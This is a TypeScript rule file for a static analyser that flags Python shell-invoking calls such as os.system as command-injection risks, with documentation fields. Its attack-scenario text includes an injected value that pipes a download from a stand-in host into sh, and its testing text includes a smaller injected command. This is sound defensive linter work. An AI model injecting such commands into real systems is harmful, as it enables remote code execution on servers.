// start-process-with-shell: os.system, os.popen and friends, which always run a shell (Bandit B605, Ruff S605).
import { defineRule } from '../../src/analysis/rule.js';
import type { CallInfo } from '../../src/analysis/python/call-name.js';
import { SHELL_FNS } from '../../src/analysis/python/command-line.js';

export default defineRule({
  meta: {
    id: 'start-process-with-shell',
    title: 'Process started through a shell (os.system, os.popen, commands)',
    category: 'command-injection',
    cwe: ['CWE-78'],
    owasp: { '2021': ['A03:2021'], '2025': ['A05:2025'] },
    severity: 'medium',
    riskScore: 6,
    confidence: 'high',
    threat: 'integrity',
    timeline: 'immediate',
    aliases: { bandit: ['B605'], ruff: ['S605'] },
    messages: {
      dynamic: '`{{fn}}` runs a computed command through a shell; interpolated input can inject commands.',
      literal: '`{{fn}}` runs a constant command through a shell; prefer subprocess.run with an argument list.',
    },
    docs: {
      whatItDoes:
        'Flags `os.system`, `os.popen`, `popen2.*`, `commands.*` and `subprocess.getoutput`/`getstatusoutput`, which always hand their command string to `/bin/sh`.',
      whyBad:
        'The whole string is parsed by the shell, so `;`, `|`, `$()`, backticks and quotes inside any interpolated value run as extra commands.',
      businessImpact:
        'Remote code execution with the privileges of the service: data theft, tampering, ransomware and pivoting into the internal network.',
      attackScenario:
        'A form field `host` reaches `os.system("ping -c1 " + host)`; the attacker submits `8.8.8.8; curl https://evil.example/x | sh` and owns the server.',
      example: 'os.system(f"gzip {path}")',
      useInstead: 'subprocess.run(["gzip", "--", path], check=True)',
      testing:
        'Call the code path with a value containing `; touch /tmp/pwned` and assert that the file is not created.',
      knownProblems: 'A constant command is still reported (low): later edits tend to interpolate into it.',
      references: [
        'https://docs.python.org/3/library/os.html#os.system',
        'https://cwe.mitre.org/data/definitions/78.html',
        'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
      ],
    },
  },
  hints: ['Popen3', 'Popen4', 'getoutput', 'getstatusoutput', 'popen', 'system'],
  create(ctx) {
    const check = (call: CallInfo) => {
      const command = call.argOrKwarg(0, 'command') ?? call.argOrKwarg(0, 'cmd');
      if (!command) return;
      const literal = ctx.staticString(command) !== undefined;
      ctx.report({
        node: call.node,
        messageId: literal ? 'literal' : 'dynamic',
        data: { fn: call.name ?? 'os.system' },
        severity: literal ? 'low' : 'high',
      });
    };
    return { calls: Object.fromEntries(SHELL_FNS.map((fn) => [fn, check])) };
  },
});
